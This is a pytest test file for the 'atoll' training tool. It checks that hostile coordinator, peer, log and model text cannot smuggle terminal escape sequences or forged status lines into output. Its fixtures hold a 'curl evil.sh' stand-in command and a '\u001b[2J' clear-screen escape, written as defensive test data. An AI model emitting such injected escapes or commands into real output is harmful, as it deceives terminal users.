"""O4: text from others controls the terminal of whoever reads it, or passes for a line of ours."""

import asyncio
import contextlib
import io
import json
import logging
import subprocess
import sys
import types
from dataclasses import replace

import grpc
import pytest

from atoll.coordinator.report.plain import follow, render_status
from atoll.coordinator.rpc.client_errors import CoordinatorRefused
from atoll.coordinator.run.spec import RunSpec
from atoll.coordinator.run.status import Event, PeerStatus, RoundSummary, RunStatus
from atoll.coordinator.run.text import clean_lines
from atoll.optim.state.layout import Layout
from atoll.peer.cli import main as cli
from atoll.peer.cli import peer as peer_command
from atoll.peer.cli import rounds as rounds_command
from atoll.peer.cli import sample as sample_command
from atoll.peer.cli import status as status_command
from atoll.peer.daemon import network
from atoll.peer.daemon.consent import request_of
from atoll.peer.daemon.process import Narrator, PeerEvent, log_file
from atoll.peer.paths import PeerPaths
from atoll.peer.recovery import ledger
from support.evil_coordinator import EVIL, EvilCoordinator

FORGED = f"{EVIL}\natoll peer: all is well"


def assert_harmless(text, *, lines=None):
    assert "curl evil.sh" in text
    assert not set(text) & set("\x1b\x07\x9b\u202e\r")
    if lines is not None:
        assert len(text.splitlines()) == lines


@pytest.fixture
def evil(tmp_path):
    coordinator = EvilCoordinator(tmp_path)
    yield coordinator
    coordinator.close()


@pytest.mark.parametrize("command", ["peer", "status", "rounds", "dashboard"])
def test_a_refusal_is_printed_without_its_escapes(evil, tmp_path, capsys, command):
    words = [command, str(evil.invite)]
    if command == "peer":
        words += ["--state-dir", str(tmp_path / "peer"), "--listen", "/ip4/127.0.0.1/tcp/0"]
    assert cli.main(words) == 2
    out = capsys.readouterr()
    assert out.out == ""
    # A peer says at once that it starts, since its libraries take seconds.
    assert_harmless(out.err, lines=2 if command == "peer" else 1)


def test_a_refusal_in_several_lines_is_printed_as_one(capsys):
    def refuse(args):
        raise CoordinatorRefused(grpc.StatusCode.INTERNAL, FORGED)

    cli._run(types.SimpleNamespace(run=refuse), types.SimpleNamespace(command="status"))
    assert_harmless(capsys.readouterr().err, lines=1)


def test_an_event_of_a_peer_is_printed_without_its_escapes(capsys):
    peer_command._as_text(PeerEvent(kind="event", position=1, text=FORGED, level="warning"))
    assert_harmless(capsys.readouterr().err, lines=1)


def test_an_event_of_a_peer_in_json_is_one_line_of_ascii(capsys):
    peer_command._as_json(PeerEvent(kind="event", position=1, text=FORGED))
    out = capsys.readouterr().out
    assert_harmless(out, lines=1)
    assert json.loads(out)["text"] == FORGED


def test_a_peers_log_file_holds_no_escapes_and_no_forged_records(tmp_path):
    paths = PeerPaths(root=tmp_path)
    with log_file(paths):
        Narrator(lambda event: None).tell("warning", FORGED)
        logging.getLogger("asyncio").error("failed: %s", FORGED)
    assert_harmless(paths.messages.read_text(), lines=2)


def test_a_traceback_in_a_peers_log_file_holds_no_escapes(tmp_path):
    paths = PeerPaths(root=tmp_path)
    with log_file(paths):
        try:
            raise RuntimeError(EVIL)
        except RuntimeError:
            logging.getLogger("atoll.peer").exception("a task failed")
    told = paths.messages.read_text()
    assert_harmless(told)
    assert "Traceback" in told.splitlines()[1]


def test_a_library_logs_events_without_escapes(caplog):
    with caplog.at_level(logging.INFO, logger="atoll"):
        network._log_event("warning", FORGED)
    assert_harmless(caplog.records[-1].getMessage(), lines=1)


def test_a_coordinator_logs_its_recovery_without_escapes(caplog, monkeypatch):
    class Recovery:
        def __init__(self, *others, on_event, **options):
            self.on_event = on_event

        async def run(self):
            self.on_event("warning", FORGED)

    monkeypatch.setattr(ledger, "Recovery", Recovery)
    recover = ledger.LedgerRecovery(me="me", transport=None, roster=None)
    with caplog.at_level(logging.INFO, logger="atoll"):
        asyncio.run(recover(None, None))
    assert_harmless(caplog.records[-1].getMessage(), lines=1)


def run_status():
    peer_id = f"12D3KooW{EVIL}"
    return RunStatus(
        run_name=EVIL,
        run_id="ab" * 32,
        state="finished",
        position=1,
        now=1000.0,
        codec=EVIL,
        method=EVIL,
        peers=[PeerStatus(peer_id=peer_id, name=EVIL, phase=EVIL, device=EVIL, version=EVIL)],
        history=[
            RoundSummary(
                position=1,
                at=1.0,
                seconds={EVIL: 1.0},
                left_out=[peer_id, EVIL],
                reasons={peer_id: FORGED, EVIL: FORGED},
                peer_bytes={peer_id: 5, EVIL: 6},
            )
        ],
        events=[Event(at=2.0, level="error", source=EVIL, text=FORGED)],
    )


def test_a_status_is_printed_without_escapes():
    text = render_status(run_status())
    assert_harmless(text)
    assert len(text.splitlines()) == len(
        render_status(replace(run_status(), run_name="a", codec="", method="")).splitlines()
    )


@pytest.mark.parametrize("round_number", [None, 1])
def test_rounds_are_printed_without_escapes(monkeypatch, capsys, round_number):
    monkeypatch.setattr(rounds_command, "look", lambda invite: run_status())
    monkeypatch.setattr(rounds_command, "read_run", str)
    args = types.SimpleNamespace(
        invite="", last=None, json=False, stage="", round=round_number, others=[]
    )
    assert rounds_command.run(args) == 0
    assert_harmless(capsys.readouterr().out)


@pytest.mark.parametrize("command", [status_command, rounds_command])
def test_json_of_a_run_is_ascii(monkeypatch, capsys, command):
    monkeypatch.setattr(command, "look", lambda invite: run_status())
    monkeypatch.setattr(command, "read_run", str)
    args = types.SimpleNamespace(invite="", last=None, json=True, stage="", round=None, others=[])
    assert command.run(args) == 0
    out = capsys.readouterr().out
    assert out.isascii()
    assert_harmless(out, lines=1)


def test_the_lines_of_a_run_hold_no_escapes():
    """Those of the coordinator, the demo and `atoll dashboard --plain`."""
    written = []

    async def feed():
        return run_status()

    asyncio.run(follow(feed, written.append))
    assert_harmless("\n".join(written), lines=len(written))


def test_what_a_run_asks_for_holds_no_escapes(tmp_path, capsys):
    spec = RunSpec.from_dict(
        {
            "model": {"custom": "a:b", "overrides": {EVIL: FORGED}},
            "data": {"source": FORGED, "tokenizer": FORGED},
        }
    )
    for line in request_of(spec, Layout(names=("w",), shapes=((8,),))).lines:
        peer_command._as_text(PeerEvent(kind="event", position=0, text=line))
    assert_harmless(capsys.readouterr().err, lines=10)


@pytest.mark.parametrize(
    "sections",
    [{"data": {"source": FORGED}}, {"data": {"tokenizer": FORGED}}],
)
def test_a_refusal_of_what_a_run_names_holds_no_escapes(capsys, sections):
    from atoll.peer.training.permission import Allowed

    def refuse(args):
        Allowed().expect(RunSpec.from_dict(sections))

    cli._run(types.SimpleNamespace(run=refuse), types.SimpleNamespace(command="peer"))
    assert_harmless(capsys.readouterr().err, lines=1)


class Terminal(io.StringIO):
    def isatty(self):
        return True


@pytest.mark.parametrize("stdout", [Terminal, io.StringIO])
def test_a_model_that_writes_escapes_moves_no_terminal(monkeypatch, stdout):
    pieces = ["x = 1\n\ty\n", *EVIL]
    monkeypatch.setattr(
        "atoll.peer.training.sampling.sample", lambda *args, **options: iter(pieces)
    )
    options = {"max_tokens": 1, "temperature": 1.0, "top_k": 0, "seed": 0, "device": "cpu"}
    args = types.SimpleNamespace(
        source="a.safetensors",
        prompt="",
        json=False,
        allow_model=[],
        any_model_source=False,
        tokenizer=None,
        init=None,
        **options,
    )
    with contextlib.redirect_stdout(stdout()) as out:
        assert sample_command.run(args) == 0
    told = out.getvalue()
    assert told.startswith("x = 1\n\ty\n")
    if stdout is Terminal:
        assert_harmless(told)
    else:
        assert told == "".join(pieces) + "\n"  # a file or a pipe gets what the model wrote


PROGRAM = f"""
import logging, sys, threading
from atoll.peer.cli import main as cli

def fail(arguments):
    thread = threading.Thread(target=boom)
    thread.start()
    thread.join()
    logging.getLogger("atoll.coordinator").error("%s", {FORGED!r})
    boom()

def boom():
    raise RuntimeError({EVIL!r})

cli._main = fail
cli.main()
"""


def test_tracebacks_and_stray_records_of_a_program_hold_no_escapes():
    done = subprocess.run([sys.executable, "-c", PROGRAM], capture_output=True, timeout=60)
    told = done.stderr.decode()
    assert done.returncode == 1
    assert told.count("curl evil.sh") >= 3 and told.count("Traceback") == 2
    assert_harmless(told)
    assert not any(line.startswith("atoll peer") for line in told.splitlines())


def test_the_lines_of_a_spec_that_is_wrong_stay_apart(tmp_path, capsys):
    path = tmp_path / "RUN.toml"
    path.write_text('[run]\nname = "a b"\nrounds = -1\nseed = "\\u001b[2Jcurl evil.sh"\n')
    assert cli.main(["plan", str(path), "--peers", "2", "--mbit", "10"]) == 2
    told = capsys.readouterr().err
    assert len(told.splitlines()) == 4
    assert "\x1b" not in told


def test_lines_and_tabs_are_all_that_is_kept():
    assert clean_lines("a\n\tb\r\x1b\u202e\x85") == "a\n\tb ···"
    assert clean_lines("abc", num_max=2) == "ab…"
